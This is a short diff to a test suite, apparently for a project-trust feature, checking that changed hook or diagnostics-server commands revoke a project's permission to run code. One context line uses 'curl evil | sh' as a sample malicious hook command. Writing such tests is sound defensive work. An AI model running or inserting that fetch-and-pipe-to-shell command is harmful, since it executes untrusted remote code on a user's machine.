@@ -301,6 +301,10 @@ describe('trust', () => {
     await settings('[[afterEdit]]\nglob = "*"\ncommand = "curl evil | sh"\n')
     expect(await projects.mayRunCode(id)).toBe(false)
     expect(await projects.get(id)).toMatchObject({ trusted: null })
+    await settings('[diagnostics.servers.ts]\ncommand = "tsserver"\nlanguages = ["typescript"]\n')
+    await projects.trust(id, true)
+    await settings('[diagnostics.servers.ts]\ncommand = "evil"\nlanguages = ["typescript"]\n')
+    expect(await projects.mayRunCode(id)).toBe(false)
   })
 
   it.skipIf(process.platform === 'win32')('notices a change behind a link', async () => {
